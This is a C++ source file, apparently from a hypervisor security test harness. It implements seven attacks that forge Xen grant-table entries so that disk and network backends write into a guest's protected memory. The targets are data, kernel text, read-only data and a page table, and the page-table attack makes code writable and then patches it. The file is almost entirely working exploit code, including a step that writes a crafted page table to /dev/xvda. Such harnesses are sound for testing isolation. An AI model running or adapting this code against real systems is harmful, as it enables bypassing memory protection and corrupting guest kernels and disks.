// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
// Attacks by the hands of a real backend, which is not to blame: entries of the
// grant table that the drivers wrote are forged, so that what Linux's blkback
// reads from the disk, or netback from the network, goes to another frame. Needs
// a disk whose first 256 KiB are full of kDisk, and a network; prints as
// probe.cpp does.
#include "attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

constexpr char kDisk = 0x5a;
constexpr unsigned kPage = abi::kPageSize, kTableAt = 48 * kPage;
const volatile char *victimTable() {
  return reinterpret_cast<const volatile char *>(
      address(const_cast<const std::uint64_t *>(
          entryOf(address(victimText)))) &
      ~std::uint64_t{kPage - 1});
}

/// All pages that a backend may write to, but has not mapped yet, are for as long
/// as this lives another one.
class Forgery {
public:
  explicit Forgery(const volatile void *victim) {
    for (unsigned i = 0; i < abi::kIoPages; ++i) {
      was[i] = entry(i).frame;
      if ((entry(i).flags & ~GTF_permit_access) == 0)
        entry(i).frame = static_cast<std::uint32_t>(frameOf(victim));
    }
    frame = static_cast<std::uint32_t>(frameOf(victim));
  }
  ~Forgery() {
    for (unsigned i = 0; i < abi::kIoPages; ++i)
      if (entry(i).frame == frame)
        entry(i).frame = was[i];
  }

private:
  static volatile grant_entry_v1_t &entry(unsigned page) {
    return grantEntry(abi::kReservedGrants + page);
  }
  std::uint32_t frame, was[abi::kIoPages];
};

int disk = -1;
char buffer[11 * kPage]; // What one request may move.
/// The backend keeps what it has mapped, so each read uses the pages of those
/// before, and one more: the last, which gets what is at the offset.
void readInto(const volatile void *victim, unsigned offset) {
  static unsigned used = 1;
  Forgery forgery(victim);
  pread(disk, buffer, (used + 1) * kPage, offset - used * kPage);
  ++used;
}
/// A packet that comes meanwhile goes to the victim too, over its beginning; and
/// what comes between may take the page.
bool diskTo(const volatile char *victim) {
  for (unsigned i = 0; i < 3; ++i) {
    readInto(victim, 16 * kPage);
    if (victim[kPage - 1] == kDisk)
      return true;
  }
  return false;
}
bool diskToData() { return diskTo(data); }
bool diskToText() { return diskTo(textOf(kMoved)); }
bool diskToRodata() { return diskTo(victimRodata); }
/// The table as it is, but with code writable, which is then written.
bool diskToTable() {
  readInto(victimTable(), kTableAt);
  flushTables();
  if (!(*entryOf(address(victimText)) & kWritable))
    return false;
  return store(victimText, kRet);
}
/// As long as there is nothing forged: it goes through the page of a read.
void prepareTable() {
  std::memcpy(buffer, const_cast<const char *>(victimTable()), kPage);
  reinterpret_cast<std::uint64_t *>(buffer)[address(victimText) >> 12 & 511] |=
      kWritable;
  if (pwrite(disk, buffer, kPage, kTableAt) != kPage)
    std::puts("the disk cannot be written");
}

/// Whoever asks dom0 for something that it does not have gets an answer. What a
/// packet begins with, 00:16:3e for the domain itself, differs from every
/// victim's beginning in the second byte.
bool netTo(const volatile char *victim) {
  char was = victim[1];
  Forgery forgery(victim);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  sockaddr_in to = {};
  to.sin_family = AF_INET;
  to.sin_port = htons(9);
  to.sin_addr.s_addr = inet_addr("10.0.2.1");
  bool isDone = false;
  for (unsigned i = 0; i < 20 && !isDone; ++i) {
    sendto(s, "?", 1, 0, reinterpret_cast<sockaddr *>(&to), sizeof(to));
    usleep(100'000);
    isDone = isChanged(victim + 1, was);
  }
  close(s);
  return isDone;
}
bool netToData() { return netTo(spare); }
bool netToText() { return netTo(textOf(kOver)); }
alignas(4096) const volatile char otherRodata[4096] = {1};
bool netToRodata() { return netTo(otherRodata); }

constexpr Attack kAttacks[] = {
    {"disk-to-data", kPv | kPvh, diskToData},
    {"disk-to-text", kPv | kPvh, diskToText},
    {"disk-to-rodata", kPv | kPvh, diskToRodata},
    {"net-to-data", kPv | kPvh, netToData},
    {"net-to-text", kPv | kPvh, netToText},
    {"net-to-rodata", kPv | kPvh, netToRodata},
    {"disk-to-table", kPv | kPvh, diskToTable},
};

} // namespace

int main(int count, char **words) {
  disk = open("/dev/xvda", O_RDWR);
  if (disk < 0)
    std::puts("there is no disk");
  else
    prepareTable();
  return runAttacks(kAttacks, count > 1 ? words[1] : nullptr);
}
